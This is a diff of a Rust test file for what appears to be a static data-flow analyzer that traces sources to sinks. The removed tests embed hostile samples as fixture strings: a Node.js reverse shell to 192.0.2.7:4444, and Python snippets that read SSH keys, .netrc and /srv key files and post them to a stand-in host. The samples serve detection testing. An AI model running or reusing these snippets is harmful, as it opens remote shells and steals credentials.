@@ -82,35 +82,3 @@ fn what_one_callback_collects_another_has() {
     let wanted = "network.response https.get(https://code.example.invalid/p.js) -> code.execute eval(script) proven";
     assert!(paths.contains(wanted), "{paths}");
 }
-
-/// What is piped is written to what it is piped into, whatever that is.
-#[test]
-fn a_stream_is_written_where_it_is_piped_to() {
-    let text = "const net = require('net');\nconst shell = require('child_process').spawn('/bin/sh', []);\nconst socket = new net.Socket();\nsocket.connect(4444, '192.0.2.7', () => { socket.pipe(shell.stdin); shell.stdout.pipe(socket); });\n";
-    let paths = Place::new().file("known.js", text).run(&["dev", "paths", "known.js"]).stdout;
-    assert!(paths.contains("network.response net.Socket -> process.input child_process.Stdin.write(chunk)"), "{paths}");
-    assert!(paths.contains("-> network.send net.Socket.write(data)"), "{paths}");
-    assert!(!paths.contains("file.write"), "{paths}");
-}
-
-/// An open file that is handed over, or gone through, is read.
-#[test]
-fn an_open_file_is_read_without_a_word() {
-    let text = "import requests\n\ndef send(handle):\n    requests.post('https://files.example.invalid/a', data=handle)\n\nwith open('/home/user/.ssh/id_rsa', 'rb') as key:\n    send(key)\nwith open('/etc/hosts') as table:\n    for line in table:\n        requests.post('https://files.example.invalid/b', data=line)\nrequests.post('https://files.example.invalid/c', files={'a': ('a', open('/home/user/.netrc', 'rb'))})\n";
-    let paths = Place::new().file("send.py", text).run(&["dev", "paths", "send.py"]).stdout;
-    for wanted in [
-        "file.credential builtins.file.read(/home/user/.ssh/id_rsa) -> network.send requests.post(data)",
-        "file builtins.file.__iter__(/etc/hosts) -> network.send requests.post(data)",
-        "file.credential builtins.file.read(/home/user/.netrc) -> network.send requests.post(files)",
-    ] {
-        assert!(paths.contains(wanted), "{wanted}\n{paths}");
-    }
-}
-
-/// What a round of a loop did before it was broken off is there behind the loop, and before a further round.
-#[test]
-fn a_jump_out_of_a_loop_loses_nothing() {
-    let text = "import os\nimport requests\n\ndef first():\n    found = None\n    for name in os.listdir('/srv'):\n        if name.endswith('.key'):\n            found = open('/srv/' + name).read()\n            break\n    if not found:\n        return\n    requests.post('https://files.example.invalid/a', data=found)\n\ndef orelse():\n    found = ''\n    for name in os.listdir('/srv'):\n        if name.endswith('.key'):\n            found = open('/srv/b').read()\n            break\n    else:\n        return\n    requests.post('https://files.example.invalid/b', data=found)\n\ndef again():\n    state = 4\n    while state:\n        if state == 4:\n            if os.path.exists('/srv/c'):\n                state = 2\n                continue\n            state = 5\n        elif state == 5:\n            state = 2\n        elif state == 2:\n            requests.post('https://files.example.invalid/c', data=open('/srv/c').read())\n            state = 0\n";
-    let paths = Place::new().file("loops.py", text).run(&["dev", "paths", "loops.py"]).stdout;
-    assert_eq!(paths.matches("-> network.send requests.post(data)").count(), 3, "{paths}");
-}
